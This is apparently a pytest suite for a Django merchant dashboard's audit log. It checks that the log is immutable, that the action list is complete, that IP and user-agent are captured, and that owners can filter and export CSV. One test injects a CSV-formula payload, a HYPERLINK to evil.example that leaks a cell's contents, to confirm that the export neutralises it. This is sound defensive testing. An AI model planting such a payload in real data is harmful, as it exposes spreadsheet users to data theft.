"""The audit log: written for each action, never changed or deleted (PostgreSQL refuses it),
read and filtered by owners and admins, exported as CSV."""

import csv
import io

import pytest
from django.db import connection, transaction
from django.db.utils import DatabaseError

from dashboard import audit
from dashboard.models import Action, AuditEntry
from tests.dashboard.conftest import make_member, signed_in

pytestmark = [pytest.mark.postgres, pytest.mark.django_db]


def test_the_database_refuses_to_change_or_delete_a_row(shop, owner):
    entry = audit.record(None, Action.SETTINGS_UPDATED, merchant=shop, user=owner.user)
    for statement in (
        "UPDATE dashboard_auditentry SET action = 'member.removed' WHERE id = %s",
        "DELETE FROM dashboard_auditentry WHERE id = %s",
    ):
        with pytest.raises(DatabaseError, match="never updated or deleted"):
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute(statement, [entry.pk])
    with pytest.raises(TypeError):
        AuditEntry.objects.filter(pk=entry.pk).update(action="member.removed")
    with pytest.raises(TypeError):
        entry.delete()
    assert AuditEntry.objects.get(pk=entry.pk).action == "settings.updated"


def test_every_contract_action_is_a_choice():
    assert Action.values == [
        "login.succeeded", "login.failed", "mfa.activated", "mfa.deactivated",
        "member.invited", "member.joined", "member.role_changed", "member.removed",
        "api_key.created", "api_key.revoked", "api_key.revealed", "webhook_endpoint.updated",
        "webhook_secret.rotated", "refund.created", "payout.created", "payout_batch.submitted",
        "payout_batch.approved", "payout_batch.rejected", "payment_link.created",
        "payment_link.deactivated", "payment_link.activated", "event.resent",
        "settings.updated",
        # Added: the owner's "payouts by API" turned on and off (docs/guides/dashboard.md).
        "api_payouts.enabled", "api_payouts.disabled",
        # Written by staff: a change of the merchant's price plan (docs/operations/staff.md).
        "pricing.updated",
        # Settlements (docs/guides/dashboard.md): accounts added or removed (in the dashboard or
        # through the API), a withdrawal, a schedule changed.
        "settlement_account.added", "settlement_account.removed", "settlement_schedule.updated",
        "settlement.created",
        # The application for live mode: the owner's submission, the staff's decisions
        # (docs/guides/going-live.md).
        "activation.submitted", "activation.approved", "activation.rejected",
        "activation.changes_requested",
        # An invitation mailed again or revoked (docs/guides/dashboard.md).
        "invitation.resent", "invitation.revoked",
    ]  # fmt: skip
    with pytest.raises(ValueError):
        audit.record(None, "charge.deleted")


def test_a_row_says_who_when_where(shop, owner, settings):
    """The client address is read as axes reads it: behind THROTTLE_TRUSTED_PROXIES proxies, the
    address they saw."""
    client = signed_in(owner.user)
    client.post(
        "/dashboard/settings/business/",
        {"name": "Boutique Gombe 2", "support_email": "aide@example.com", "support_phone": ""},
        HTTP_USER_AGENT="Mozilla/5.0 (Linux; Android 14) Chrome/120",
        REMOTE_ADDR="10.0.0.7",
    )
    client.post(  # the same values again: nothing changes, nothing is written
        "/dashboard/settings/business/",
        {"name": "Boutique Gombe 2", "support_email": "aide@example.com", "support_phone": ""},
    )
    (row,) = AuditEntry.objects.filter(merchant=shop)
    assert (row.action, row.user, row.email, row.mode) == (
        "settings.updated",
        owner.user,
        owner.user.email,
        "",
    )
    assert row.object_id == "name,support_email"
    assert (row.ip, row.user_agent) == ("10.0.0.7", "Mozilla/5.0 (Linux; Android 14) Chrome/120")


def test_security_changes_are_audited(shop, owner, settings):
    from allauth.mfa.models import Authenticator

    client = signed_in(owner.user)
    response = client.post("/dashboard/settings/security/", {"require_two_factor": "on"})
    assert response.status_code == 200  # refused in words: the owner has no two-factor yet
    assert not AuditEntry.objects.filter(merchant=shop).exists()
    Authenticator.objects.create(user=owner.user, type="totp", data={"secret": "x"})
    client.post("/dashboard/settings/security/", {"require_two_factor": "on"})
    assert list(AuditEntry.objects.filter(merchant=shop).values_list("action", "object_id")) == [
        ("settings.updated", "require_two_factor")
    ]


def test_owners_and_admins_filter_and_export(shop, owner):
    admin = make_member(shop, "admin")
    audit.record(None, Action.MEMBER_INVITED, merchant=shop, user=owner.user, object_id="a@x.cd")
    audit.record(None, Action.SETTINGS_UPDATED, merchant=shop, user=admin.user, object_id="name")
    audit.record(None, Action.SETTINGS_UPDATED, user=admin.user, object_id="elsewhere")
    client = signed_in(admin.user)
    page = client.get("/dashboard/audit/").content.decode()
    assert "a@x.cd" in page and "elsewhere" not in page
    page = client.get("/dashboard/audit/", {"action": "settings.updated"}).content.decode()
    assert "a@x.cd" not in page and ">name<" in page
    page = client.get("/dashboard/audit/", {"user": owner.user.email[:8]}).content.decode()
    assert "a@x.cd" in page and ">name<" not in page
    page = client.get("/dashboard/audit/", {"date_from": "2999-01-01"}).content.decode()
    assert "a@x.cd" not in page
    response = client.get("/dashboard/audit/", {"action": "member.invited", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [
        "created_at", "email", "mode", "action", "object_id", "ip", "user_agent", "details"
    ]  # fmt: skip
    assert [(r[1], r[3], r[4]) for r in rows[1:]] == [
        (owner.user.email, "member.invited", "a@x.cd")
    ]
    # bad filters are words on the page, not errors
    assert client.get("/dashboard/audit/", {"date_from": "yesterday"}).status_code == 200


def test_the_csv_export_holds_no_formula_whoever_typed_it(shop, owner, client):
    """A failed sign-in writes what anyone sent (the typed e-mail, the user agent) into the
    merchant's log; the owner's export must not hand a spreadsheet a formula."""
    client.post(
        "/accounts/login/",
        {"login": owner.user.email, "password": "not-the-password"},
        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    )
    assert AuditEntry.objects.filter(merchant=shop, action="login.failed").exists()
    export = signed_in(owner.user).get("/dashboard/audit/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    failed = [row for row in rows if row[3] == "login.failed"]
    assert failed and failed[0][6] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row[1:]), row
